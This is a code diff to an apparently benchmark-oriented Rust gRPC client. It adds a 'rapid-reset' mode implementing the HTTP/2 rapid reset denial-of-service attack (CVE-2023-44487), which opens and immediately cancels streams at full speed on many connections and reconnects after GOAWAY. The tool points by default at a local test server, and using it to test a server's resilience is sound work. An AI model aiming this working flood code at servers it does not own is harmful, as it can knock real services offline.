@@ -4,7 +4,7 @@
 //! bench/tonic-peer's client, so the two clients can be compared on the same server.
 //!
 //! Flags: `--target=http://127.0.0.1:PORT --mode=unary|pingpong|server-stream|
-//! go-server-stream|idle-conns|open-streams [--conns=1] [--concurrency=1] [--duration=5]
+//! go-server-stream|idle-conns|open-streams|rapid-reset [--conns=1] [--concurrency=1] [--duration=5]
 //! [--warmup=1] [--req_size=0] [--resp_size=0] [--streams=0] [--hold=5] [--lb_policy=NAME]`.
 //! `--target` takes any channel target (`ipv4:127.0.0.1:P1,127.0.0.1:P2` with
 //! `--lb_policy=round_robin` spreads each channel's calls over several servers).
@@ -225,6 +225,9 @@ pub async fn run(flags: &Flags) -> Result<(), String> {
         payload: Some(Payload { r#type: 0, body: vec![0u8; req_size] }),
         ..Default::default()
     };
+    if mode == "rapid-reset" {
+        return rapid_reset(&target, conns, duration).await;
+    }
     let mut channels = Vec::with_capacity(conns);
     for _ in 0..conns {
         channels.push(connect(&target, &lb_policy).await?);
@@ -269,6 +272,67 @@ pub async fn run(flags: &Flags) -> Result<(), String> {
 
 /// Opens the connections (one unary call each so they are really up) and `streams`
 /// ping-pong streams spread over them, reports readiness, holds them for `hold` seconds.
+/// CVE-2023-44487 "rapid reset": on each of `conns` raw h2 connections, opens a stream
+/// (a complete unary request head) and resets it at once, as fast as the connection
+/// allows, for `duration`. A connection the server closes is counted and reopened.
+/// Prints `{"impl":"rapid-reset","streams":N,"per_sec":R,"goaways":G}`.
+async fn rapid_reset(target: &str, conns: usize, duration: Duration) -> Result<(), String> {
+    let addr = target.trim_start_matches("http://").trim_end_matches('/').to_string();
+    let end = Instant::now() + duration;
+    let mut tasks = Vec::new();
+    for _ in 0..conns {
+        let addr = addr.clone();
+        tasks.push(tokio::spawn(async move {
+            let (mut streams, mut goaways) = (0u64, 0u64);
+            while Instant::now() < end {
+                let Ok(tcp) = tokio::net::TcpStream::connect(&addr).await else { break };
+                let _ = tcp.set_nodelay(true);
+                let Ok((mut send, conn)) = h2::client::handshake(tcp).await else { break };
+                let driver = tokio::spawn(conn);
+                loop {
+                    if Instant::now() >= end {
+                        break;
+                    }
+                    let Ok(ready) = send.clone().ready().await else { break };
+                    send = ready;
+                    let uri = format!("http://{addr}/grpc.testing.BenchmarkService/UnaryCall");
+                    let req = http::Request::post(uri)
+                        .header("content-type", "application/grpc")
+                        .header("te", "trailers")
+                        .body(())
+                        .map_err(|e| e.to_string());
+                    let Ok(req) = req else { break };
+                    match send.send_request(req, false) {
+                        Ok((_, mut body)) => {
+                            body.send_reset(h2::Reason::CANCEL);
+                            streams += 1;
+                            if streams % 64 == 0 {
+                                tokio::task::yield_now().await;
+                            }
+                        }
+                        Err(_) => break,
+                    }
+                }
+                goaways += 1;
+                driver.abort();
+            }
+            (streams, goaways.saturating_sub(1))
+        }));
+    }
+    let (mut streams, mut goaways) = (0u64, 0u64);
+    for t in tasks {
+        if let Ok((s, g)) = t.await {
+            streams += s;
+            goaways += g;
+        }
+    }
+    emit(&format!(
+        "{{\"impl\":\"rapid-reset\",\"streams\":{streams},\"per_sec\":{:.0},\"goaways\":{goaways}}}",
+        streams as f64 / duration.as_secs_f64().max(1e-9)
+    ));
+    Ok(())
+}
+
 async fn memory_probe(channels: &[Channel], mode: &str, streams: usize, hold: f64) -> Result<(), String> {
     let mut ok_conns = 0;
     for ch in channels {
